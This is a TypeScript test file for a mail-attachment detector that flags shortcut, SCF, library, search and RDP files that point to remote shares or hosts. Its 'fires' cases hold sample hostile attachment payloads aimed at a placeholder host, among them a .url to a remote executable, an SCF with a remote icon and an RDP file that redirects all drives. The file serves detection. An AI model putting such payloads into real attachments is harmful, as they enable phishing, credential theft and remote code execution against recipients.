import remoteShortcut from '../../../src/detection/detectors/document/remote-shortcut';
import { lnk } from '../../../src/specimens/lnk';
import { attachment, message, unreadAttachment } from '../../../src/specimens/mail/message';
import { testDetector } from '../test-detector';

const utf8 = (text: string) => new TextEncoder().encode(text);
const mail = (name: string, text: string) => message({ attachments: [attachment(name, utf8(text))] });
const shortcut = (target: string) => message({ attachments: [attachment('Minutes.lnk', lnk({ target }))] });
const internet = (line: string) => mail('Invoice.url', `[InternetShortcut]\r\n${line}\r\n`);
const desktop = (host: string) =>
  mail('Support.rdp', `screen mode id:i:2\r\nfull address:s:${host}\r\ndrivestoredirect:s:*\r\n`);

testDetector(remoteShortcut, {
  fires: [
    {
      name: 'an internet shortcut to a program on a web server that Windows takes for a share',
      mail: internet('URL=file://files.invalid@80/Downloads/notreal.exe'),
      finds: [{ message: 'opensElsewhere', values: { name: 'Invoice.url', host: 'files[.]invalid' } }],
    },
    {
      name: 'a share behind five slashes',
      mail: internet('URL=file://///files.invalid/x/notreal.exe'),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'a harmless program that takes its libraries from elsewhere',
      mail: internet('URL=C:\\Windows\\notepad.exe\r\nWorkingDirectory=\\\\files.invalid@SSL@443\\x'),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'an Explorer command whose icon lies elsewhere',
      mail: mail('Photos.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\files.invalid\\x\\a.ico\r\n'),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'a library of somebody else’s files',
      mail: mail(
        'Documents.library-ms',
        '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\files.invalid@80\\x</url></simpleLocation></libraryDescription>',
      ),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'a search in somebody else’s files',
      mail: mail(
        'Documents.search-ms',
        '<persistedQuery><query><scope><include path="\\\\files.invalid\\x"/></scope></query></persistedQuery>',
      ),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'a remote desktop of a stranger',
      mail: desktop('rdp.files.invalid:443'),
      finds: [{ message: 'connectsElsewhere', values: { host: 'rdp[.]files[.]invalid' } }],
    },
    {
      name: 'a shortcut to a share on the open internet',
      mail: shortcut('\\\\files.invalid\\x\\notreal.exe'),
      finds: [{ message: 'opensElsewhere' }],
    },
    {
      name: 'a library written by Windows, in UTF-16',
      mail: message({
        attachments: [
          attachment(
            'Documents.library-ms',
            Uint8Array.from(
              `\ufeff<libraryDescription><url>\\\\files.invalid\\x</url></libraryDescription>`
                .split('')
                .flatMap((c) => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8]),
            ),
          ),
        ],
      }),
      finds: [{ message: 'opensElsewhere' }],
    },
  ],
  silent: [
    { name: 'a bookmark of a web page', mail: internet('URL=https://www.partner.example/minutes/') },
    { name: 'a shortcut to a share in the own network', mail: shortcut('\\\\fileserver\\minutes\\march.docx') },
    {
      name: 'a share of the own organisation',
      mail: shortcut('\\\\files.reader.example\\minutes\\march.docx'),
      settings: { internalDomains: ['reader.example'] },
    },
    {
      name: 'the remote desktop of the own organisation, where nothing is set',
      mail: desktop('rds.reader.example'),
      settings: { reader: { name: 'Reader', address: 'reader@reader.example' } },
    },
    { name: 'a machine in the own network', mail: desktop('192.168.10.4:3389') },
    { name: 'a machine without a domain', mail: desktop('RDS01') },
    {
      name: 'a library of the own documents',
      mail: mail(
        'Documents.library-ms',
        '<libraryDescription><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></libraryDescription>',
      ),
    },
    {
      name: 'a text that quotes such a file',
      mail: mail('Notes.txt', '[InternetShortcut]\r\nURL=file://files.invalid@80/x.exe'),
    },
    { name: 'a file of this machine', mail: internet('URL=file:///C:/Users/me/Documents/minutes.docx') },
  ],
  unchecked: [
    {
      name: 'a shortcut that was not handed over',
      mail: message({ attachments: [unreadAttachment('Invoice.url', 'denied')] }),
      gap: 'denied',
    },
  ],
});
